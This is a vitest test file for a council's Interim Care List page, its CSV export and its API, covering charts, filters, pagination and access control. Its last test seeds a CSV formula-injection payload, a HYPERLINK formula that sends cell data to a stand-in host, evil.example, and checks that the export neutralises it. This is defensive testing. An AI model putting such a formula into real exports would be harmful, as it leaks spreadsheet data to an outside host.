import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Client, createTestApp, type Fixture, seedCouncil } from '../../../test/helpers.ts'
import { createTestRequest, setRequestStatus } from '../../../test/support/offers-factory.ts'
import { markUnsourced } from '../../brokerage/offers/award.ts'
import { addCalendarDays } from '../../brokerage/rules/index.ts'
import { iclSnapshots, localities } from '../../db/schema.ts'
import { londonDate } from '../../shared/dates.ts'
import { TREND_CHART_HEIGHT } from './charts.ts'
import { ICL_PAGE_SIZE } from './routes.ts'
import { hoursPerWeek } from './rules.ts'

let t: Awaited<ReturnType<typeof createTestApp>>
let home: Fixture
const NAME = 'Ottoline Quarrendon'
const today = londonDate(new Date())
/** Three days of snapshots before today, with figures that differ day to day (hours include 0). */
const SNAPSHOTS = [
  { date: addCalendarDays(today, -3), people: 2, unfilledMinutesPerWeek: 600 },
  { date: addCalendarDays(today, -2), people: 5, unfilledMinutesPerWeek: 1350 },
  { date: addCalendarDays(today, -1), people: 3, unfilledMinutesPerWeek: 0 },
]
/** North's line of each snapshot's breakdown by locality. */
const NORTH_PEOPLE = [0, 2, 1]
const NO_BREAKDOWNS = { locality: [], pcn: [], ageGroup: [], careType: [], inHospital: [] }

beforeAll(async () => {
  t = await createTestApp()
  home = await seedCouncil(t.database, 'ICLW', t.config)
  await t.database.db.insert(localities).values({ councilId: home.councilId, name: 'North' })
  const { requestId } = await createTestRequest(t.database.db, home.councilId, {
    person: { name: NAME, dateOfBirth: '1936-02-02' },
    publish: false,
  })
  await setRequestStatus(t.database.db, requestId, 'closed')
  await markUnsourced(
    t.database.db,
    { councilId: home.councilId, actor: { kind: 'system', label: 'test' } },
    requestId,
    { inHospital: true },
  )
  await t.database.db.insert(iclSnapshots).values(
    SNAPSHOTS.map((snapshot, i) => ({
      councilId: home.councilId,
      ...snapshot,
      meanDaysWaiting: 1,
      medianDaysWaiting: 1,
      added: 1,
      removed: 0,
      breakdowns: {
        ...NO_BREAKDOWNS,
        locality: [{ key: 'North', people: NORTH_PEOPLE[i] as number, unfilledMinutesPerWeek: 0 }],
      },
    })),
  )
})
afterAll(async () => t.close())

async function signedIn(role: 'broker' | 'commissioner' | 'council_admin'): Promise<Client> {
  const client = new Client(t.app)
  await client.signIn(home.emails[role])
  return client
}

describe('the Interim Care List page', () => {
  it('shows the headline, the breakdowns and who is waiting', async () => {
    const response = await (await signedIn('commissioner')).get('/icl')
    expect(response.statusCode).toBe(200)
    expect(response.body).toContain('Headline figures')
    expect(response.body).toContain('By age group')
    expect(response.body).toContain(NAME)
    expect(response.body).toContain('href="/icl.csv?from=')
  })

  const refusals: [string, string, string][] = [
    ['a reversed period', `/icl?from=${today}&to=${addCalendarDays(today, -3)}`, '#from-day'],
    ['an end in the future', `/icl?to=${addCalendarDays(today, 400)}`, '#to-day'],
    ['a date that does not exist', '/icl?from-day=30&from-month=2&from-year=2026', '#from-day'],
    ['an unknown locality', '/icl?locality=Atlantis', '#locality'],
  ]
  for (const [what, url, link] of refusals) {
    it(`refuses ${what} with an error summary, not a 500`, async () => {
      const response = await (await signedIn('broker')).get(url)
      expect(response.statusCode).toBe(400)
      expect(response.body).toContain('There is a problem')
      expect(response.body).toContain(`href="${link}"`)
      expect(response.body).not.toContain(NAME)
    })
  }

  it('keeps a locality that exists', async () => {
    const response = await (await signedIn('council_admin')).get('/icl?locality=North')
    expect(response.statusCode).toBe(200)
    // The test person has no locality, so North has nobody.
    expect(response.body).not.toContain(NAME)
  })

  it('exports the list as CSV', async () => {
    const response = await (await signedIn('broker')).get('/icl.csv')
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toContain('text/csv')
    const [header, row] = response.body.trim().split('\n')
    expect(header).toBe(
      'request,name,days waiting,unfilled hours a week,locality,PCN,age group,care type,in hospital,handed-back package',
    )
    expect(row).toContain(NAME)
    expect(row).toMatch(/,85\+,Care home: residential,yes,$/)
  })
})

/** A chart on the page, as drawn: its points left to right, and its y axis's labels, in pixels. */
function drawnChart(body: string, id: string) {
  const svg = new RegExp(`<svg id="${id}".*?</svg>`, 's').exec(body)?.[0] ?? ''
  const symbols = /<g class="mark-symbol[^"]*">(.*?)<\/g>/s.exec(svg)?.[1] ?? ''
  const points = [...symbols.matchAll(/transform="translate\(([\d.]+),([\d.]+)\)"/g)].map((m) => ({
    x: Number(m[1]),
    y: Number(m[2]),
  }))
  // Labels sit a fixed distance from their ticks, and unlike the ticks are not rounded to the pixel.
  const labels = [
    ...svg.matchAll(/<text text-anchor="end" transform="translate\(-7,([\d.]+)\)"[^>]*>([\d.]+)<\/text>/g),
  ].map((m) => ({ y: Number(m[1]), value: Number(m[2]) }))
  return { points, labels }
}

/** Each figure is drawn, left to right, at the height the y axis gives it; 0 is the plot's foot. */
function expectDrawnToScale({ points, labels }: ReturnType<typeof drawnChart>, figures: number[]) {
  expect(points).toHaveLength(figures.length)
  for (let i = 1; i < points.length; i++)
    expect(points[i]?.x as number).toBeGreaterThan(points[i - 1]?.x as number)
  const zero = labels.find((label) => label.value === 0)
  const top = labels[labels.length - 1]
  if (!zero || !top || top.value === 0) throw new Error('the y axis has no 0 or no label above it')
  const pixelsPerUnit = (zero.y - top.y) / top.value
  figures.forEach((figure, i) => {
    expect(points[i]?.y, `point ${i}`).toBeCloseTo(TREND_CHART_HEIGHT - pixelsPerUnit * figure, 6)
  })
}

describe('the trend on the Interim Care List page', () => {
  it('draws people and unfilled hours per day as line charts, each with its table', async () => {
    const response = await (await signedIn('broker')).get('/icl')
    expect(response.statusCode).toBe(200)
    for (const id of ['icl-people-trend', 'icl-hours-trend']) {
      expect(response.body).toMatch(
        new RegExp(
          `<svg id="${id}" role="img" aria-labelledby="${id}-title" aria-describedby="${id}-caption"[^>]*><title id="${id}-title">Line chart of `,
        ),
      )
      expect(response.body).toMatch(new RegExp(`<table class="govuk-table"[^>]*id="${id}-table"`))
    }
    expectDrawnToScale(
      drawnChart(response.body, 'icl-people-trend'),
      SNAPSHOTS.map((s) => s.people),
    )
    expectDrawnToScale(
      drawnChart(response.body, 'icl-hours-trend'),
      SNAPSHOTS.map((s) => hoursPerWeek(s.unfilledMinutesPerWeek)),
    )
    const hoursTable = /id="icl-hours-trend-table".*?<\/table>/s.exec(response.body)?.[0] ?? ''
    const cells = [...hoursTable.matchAll(/<td[^>]*>\s*([^<]*?)\s*<\/td>/g)].map((m) => m[1])
    expect(cells).toEqual(SNAPSHOTS.map((s) => String(hoursPerWeek(s.unfilledMinutesPerWeek))))
  })

  it('reads one locality’s line of each snapshot', async () => {
    const response = await (await signedIn('broker')).get('/icl?locality=North')
    expect(response.statusCode).toBe(200)
    expectDrawnToScale(drawnChart(response.body, 'icl-people-trend'), NORTH_PEOPLE)
  })

  it('says there is no trend yet rather than drawing an empty chart', async () => {
    const response = await (await signedIn('commissioner')).get('/icl?from=2020-01-01&to=2020-01-31')
    expect(response.statusCode).toBe(200)
    expect(response.body).toContain('There are no daily snapshots in this period yet')
    expect(response.body).not.toContain('<svg id="icl-')
    expect(response.body).not.toContain('icl-people-trend-table')
  })
})

describe('the Interim Care List API', () => {
  const bearer = (token: string, url: string) =>
    t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } })

  it('gives a council system the headline, the breakdowns and who is waiting', async () => {
    const response = await bearer(home.councilApiToken, '/api/v1/icl')
    expect(response.statusCode).toBe(200)
    const body = response.json()
    expect(body.to).toBe(today)
    expect(body.from).toBe(addCalendarDays(today, -27))
    expect(body.people).toBe(body.entries.length)
    expect(body.people).toBeGreaterThan(0)
    const entry = body.entries.find((e: { personName: string }) => e.personName === NAME)
    expect(entry).toMatchObject({ ageGroup: '85+', careType: 'Care home: residential', inHospital: true })
    expect(body.unfilledHoursPerWeek).toBe(hoursPerWeek(body.unfilledMinutesPerWeek))
    expect(body.breakdowns.inHospital).toContainEqual(
      expect.objectContaining({
        people: body.entries.filter((e: { inHospital: boolean }) => e.inHospital).length,
      }),
    )
  })

  it('filters by locality as the page does', async () => {
    const response = await bearer(home.councilApiToken, '/api/v1/icl?locality=North')
    expect(response.statusCode).toBe(200)
    expect(response.json()).toMatchObject({ locality: 'North', people: 0, entries: [] })
  })

  const refusals: [string, string, string][] = [
    ['a reversed period', `from=${today}&to=${addCalendarDays(today, -3)}`, 'from'],
    ['an end in the future', `to=${addCalendarDays(today, 400)}`, 'to'],
    ['a date that does not exist', 'from=2026-02-30', 'from'],
  ]
  for (const [what, query, field] of refusals) {
    for (const path of ['/api/v1/icl', '/api/v1/icl/snapshots']) {
      it(`${path} refuses ${what} with the field at fault`, async () => {
        const response = await bearer(home.councilApiToken, `${path}?${query}`)
        expect(response.statusCode).toBe(400)
        expect(response.json().error.errors).toContainEqual(expect.objectContaining({ field }))
      })
    }
  }

  it('refuses an unknown locality with the field at fault', async () => {
    const response = await bearer(home.councilApiToken, '/api/v1/icl?locality=Atlantis')
    expect(response.statusCode).toBe(400)
    expect(response.json().error.errors).toEqual([{ field: 'locality', message: expect.any(String) }])
  })

  it('gives the daily snapshots of a period, oldest first', async () => {
    const all = await bearer(home.councilApiToken, '/api/v1/icl/snapshots')
    expect(all.statusCode).toBe(200)
    expect(
      all.json().snapshots.map((s: { date: string; people: number; unfilledMinutesPerWeek: number }) => ({
        date: s.date,
        people: s.people,
        unfilledMinutesPerWeek: s.unfilledMinutesPerWeek,
      })),
    ).toEqual(SNAPSHOTS)
    const [, second, third] = SNAPSHOTS
    const some = await bearer(
      home.councilApiToken,
      `/api/v1/icl/snapshots?from=${second?.date}&to=${third?.date}`,
    )
    expect(some.json()).toMatchObject({ from: second?.date, to: third?.date })
    expect(some.json().snapshots.map((s: { date: string }) => s.date)).toEqual([second?.date, third?.date])
  })

  it('refuses providers', async () => {
    for (const path of ['/api/v1/icl', '/api/v1/icl/snapshots']) {
      const response = await bearer(home.providerApiToken, path)
      expect(response.statusCode).toBe(403)
      expect(response.body).not.toContain(NAME)
    }
  })

  it('is described in /openapi.json', async () => {
    const paths = (await t.app.inject({ method: 'GET', url: '/openapi.json' })).json().paths
    expect(paths['/api/v1/icl']?.get?.summary).toMatch(/Interim Care List/)
    expect(paths['/api/v1/icl/snapshots']?.get?.summary).toMatch(/snapshots/)
  })
})

describe('a list longer than a page', () => {
  let other: Fixture
  const names: string[] = []

  beforeAll(async () => {
    other = await seedCouncil(t.database, 'ICLP', t.config)
    const caller = { councilId: other.councilId, actor: { kind: 'system', label: 'test' } } as const
    for (let i = 1; i <= ICL_PAGE_SIZE + 1; i++) {
      const name = `Waiting Person ${String(i).padStart(3, '0')}`
      names.push(name)
      const { requestId } = await createTestRequest(t.database.db, other.councilId, {
        person: { name, dateOfBirth: '1940-01-01' },
        publish: false,
      })
      await setRequestStatus(t.database.db, requestId, 'closed')
      await markUnsourced(t.database.db, caller, requestId, {})
    }
  })

  it('shows a page of people at a time, longest waiting first, with links between the pages', async () => {
    const client = new Client(t.app)
    await client.signIn(other.emails.broker)
    const first = await client.get('/icl')
    expect(first.statusCode).toBe(200)
    expect(first.body).toContain(`Showing 1 to ${ICL_PAGE_SIZE} of ${ICL_PAGE_SIZE + 1} people`)
    expect(first.body).toContain(names[0])
    expect(first.body).toContain(names[ICL_PAGE_SIZE - 1])
    expect(first.body).not.toContain(names[ICL_PAGE_SIZE])
    const next = /<a[^>]*href="([^"]*page=2[^"]*)"[^>]*rel="next"/.exec(first.body)?.[1]
    expect(next).toBeDefined()
    const second = await client.get((next as string).replaceAll('&amp;', '&'))
    expect(second.statusCode).toBe(200)
    expect(second.body).toContain(
      `Showing ${ICL_PAGE_SIZE + 1} to ${ICL_PAGE_SIZE + 1} of ${ICL_PAGE_SIZE + 1} people`,
    )
    expect(second.body).toContain(names[ICL_PAGE_SIZE])
    expect(second.body).not.toContain(names[0])
    // Past the last page shows the last; a page that is not a number is refused.
    expect((await client.get('/icl?page=9')).body).toContain(names[ICL_PAGE_SIZE])
    const bad = await client.get('/icl?page=two')
    expect(bad.statusCode).toBe(400)
    expect(bad.body).toContain('Page must be a whole number from 1')
  })
})

describe('the CSV of a list with a name that is a formula', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open record")'

  it('writes the name as text a spreadsheet will not run', async () => {
    const other = await seedCouncil(t.database, 'ICLF', t.config)
    const { requestId } = await createTestRequest(t.database.db, other.councilId, {
      person: { name: FORMULA, dateOfBirth: '1940-05-05' },
      publish: false,
    })
    await setRequestStatus(t.database.db, requestId, 'closed')
    await markUnsourced(
      t.database.db,
      { councilId: other.councilId, actor: { kind: 'system', label: 'test' } },
      requestId,
      {},
    )
    const broker = new Client(t.app)
    await broker.signIn(other.emails.broker)
    const response = await broker.get('/icl.csv')
    expect(response.statusCode).toBe(200)
    const [, row] = response.body.trim().split('\n')
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open record"")",`)
    expect((parse(response.body) as string[][])[1]?.[1]).toBe(`'${FORMULA}`)
  })
})
